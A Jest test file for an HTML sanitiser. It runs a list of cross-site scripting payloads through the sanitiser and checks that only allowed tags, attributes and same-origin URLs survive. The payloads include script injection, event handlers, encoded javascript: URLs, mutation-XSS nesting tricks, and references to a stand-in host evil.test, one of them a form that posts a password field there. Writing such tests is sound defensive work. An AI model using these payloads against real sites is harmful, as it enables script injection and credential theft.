import { plainText, safeHtml } from "./html";

jest.mock("./env", () => ({ env: () => ({ BACKEND_URL: "https://backend.test" }) }));

const attacks = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  '<img src="/a.webp" onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav\tascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test/x">x</a>',
  '<a href="/\\evil.test/x">x</a>',
  '<a href="/&#9;/evil.test/x">x</a>',
  '<a href="\\\\evil.test/x">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="//evil.test/x.png">',
  '<img srcset="https://evil.test/x.png 2x" src="/a.webp">',
  '<p style="background:url(//evil.test/x)">x</p>',
  "<style>body{display:none}</style>",
  '<link rel="stylesheet" href="//evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.test/x"></object><embed src="//evil.test/x">',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  '<math><mtext></table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><img src=x onerror="alert(1)"></textarea>',
  '<form action="//evil.test"><input name="password"><button formaction="//evil.test">x</button></form>',
  '<video src="//evil.test/x" onerror="alert(1)"></video><audio src="//evil.test/x"></audio>',
  "<details open ontoggle=alert(1)>x</details>",
  '<p id="content" class="x" name="y" data-x="z" tabindex="1" contenteditable>x</p>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<abbr title="&quot; onclick=&quot;alert(1)">x</abbr>',
];

const tags =
  "a abbr b blockquote br caption cite code col colgroup dd dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img li ol p pre q s small strong sub sup table tbody td tfoot th thead tr u ul".split(
    " ",
  );
const attributes =
  "href title rel src alt loading decoding colspan rowspan scope span start reversed type lang dir".split(
    " ",
  );

describe("safeHtml", () => {
  it.each(attacks)("disarms %s", (attack) => {
    // Parsed as a browser does, not searched as text: what is only text, or only a value, does no harm.
    const page = parsed(safeHtml(`<p>before</p>${attack}<p>after</p>`) ?? "");
    expect(page.text).toContain("before");
    for (const element of page.elements) {
      expect(tags).toContain(element.localName);
      for (const { name } of element.attributes) expect(attributes).toContain(name);
      const address = element.getAttribute("href") ?? element.getAttribute("src");
      if (address !== null) {
        const url = new URL(address, "https://site.test/page");
        expect(url.origin).toBe("https://site.test");
      }
    }
  });

  it("has nothing left to take away", () => {
    for (const attack of attacks) {
      const once = safeHtml(attack);
      if (once) expect(safeHtml(once)?.replace("/files/files/", "/files/")).toBe(once);
    }
  });
});

describe("plainText", () => {
  it("does not show what scripts and styles hold", () => {
    expect(plainText("a<script>x</script><style>y</style>")).toBe("a");
  });
});

function parsed(html: string) {
  const { body } = new DOMParser().parseFromString(html, "text/html");
  return { elements: [...body.querySelectorAll("*")], text: body.textContent ?? "" };
}
